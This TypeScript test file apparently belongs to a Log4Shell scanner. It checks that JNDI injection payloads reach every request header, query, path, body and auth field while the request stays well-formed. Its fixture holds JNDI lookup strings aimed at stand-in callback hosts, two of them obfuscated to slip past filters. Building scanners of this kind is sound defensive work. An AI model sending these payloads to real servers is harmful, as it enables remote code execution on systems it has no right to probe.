import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Place, PlaceOptions } from '../point.ts'
import type { HttpRequest } from '../request.ts'
import { writeRequest } from '../write-request.ts'
import { headerNames } from './header-names.ts'
import { points } from './index.ts'

const base: HttpRequest = {
  method: 'GET',
  target: '/shop/item?color=red&size=',
  headers: [
    ['User-Agent', 'fireline'],
    ['Cookie', 'a=1; b=2'],
  ],
  body: null,
}
const options: PlaceOptions = { profile: 'deep', headerNames: null }
const payloads = fc.constantFrom(
  '${jndi:dns://127.0.0.1:5353/abcdefghijklmnopqrst}',
  '${jndi:ldap://abcdefghijklmnopqrst.cb.example:1389/abcdefghijklmnopqrst/${lower:Y:-n}}',
  "${${date:'j'}ndi:ldap://[2001:db8::7]/x}",
  '${jnd${upper:\u0131}:ldap://h/x}',
)

/** Every text that a server can read out of a request after it has undone the encodings of HTTP. */
function readable(request: HttpRequest): string {
  const body = request.body === null ? '' : new TextDecoder().decode(request.body)
  const basic = request.headers
    .map(([, value]) => value.replace(/^Basic /, ''))
    .map((text) => Buffer.from(text, 'base64').toString())
  const unescaped = body
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
  const members = body.startsWith('{') ? Object.values(JSON.parse(body) as Record<string, string>) : []
  const decoded = [request.target, body].map((text) => decodeURIComponent(text.replace(/%(?![0-9A-F]{2})/g, '%25')))
  return [...decoded, unescaped, ...members, ...basic, ...request.headers.map(([, value]) => value)].join('\n')
}

const places = points.flatMap((point) => point.places(base, options).map((place) => [point.id, place] as const))

describe.each(places.map(([id, place]) => [`${id} ${place.point.name}`, id, place] as const))(
  '%s',
  (_name, id, place: Place) => {
    test('carries the payload to where a server reads it, and what is sent is one well-formed request', () => {
      fc.assert(
        fc.property(payloads, (payload) => {
          const filled = place.fill(base, payload)
          expect(readable(filled)).toContain(payload)
          const text = new TextDecoder('latin1').decode(writeRequest(filled, { secure: false, host: 'h', port: 80 }))
          const [head = ''] = text.split('\r\n\r\n')
          for (const line of head.split('\r\n').slice(1)) expect(line).toMatch(/^[!#$%&'*+\-.^_`|~0-9A-Za-z]+: /)
        }),
        { numRuns: 8 },
      )
    })

    test('changes no other place', () => {
      const payload = '${jndi:x}'
      const filled = place.fill(base, payload)
      const kept = (request: HttpRequest) =>
        request.headers.filter(([name]) => name !== 'Content-Type' && name !== 'Cookie')
      if (id !== 'header')
        for (const header of kept(base))
          if (id !== 'basic-user' && id !== 'bearer') expect(filled.headers).toContainEqual(header)
      if (!id.startsWith('path')) expect(filled.target.split('?')[0]).toBe('/shop/item')
      if (id !== 'query') expect(filled.target.split('?')[1]).toBe('color=red&size=')
      if (id === 'query') expect(filled.target.split('&').filter((pair) => pair.includes('jndi'))).toHaveLength(1)
      expect(filled.method).toBe(filled.body === null ? 'GET' : 'POST')
    })

    test('is named by its kind, and alone in that name', () => {
      expect(place.point.kind).toBe(id)
      expect(
        places.filter(([, other]) => other.point.kind === id && other.point.name === place.point.name),
      ).toHaveLength(1)
    })
  },
)

test('places of one shape fill one request together, each with its own payload', () => {
  const shapes = new Map<string, Place[]>()
  for (const [, place] of places)
    if (place.shape !== null) shapes.set(place.shape, [...(shapes.get(place.shape) ?? []), place])

  for (const together of shapes.values()) {
    const filled = together.reduce((request, place, i) => place.fill(request, `\${jndi:p${i}}`), base)
    const text = readable(filled)
    for (const i of together.keys()) expect(text).toContain(`\${jndi:p${i}}`)
  }
})

test('the header list has the 66 names of the public scanners, each once', () => {
  expect(new Set(headerNames.map((name) => name.toLowerCase())).size).toBe(66)
  expect(headerNames).toHaveLength(66)
})
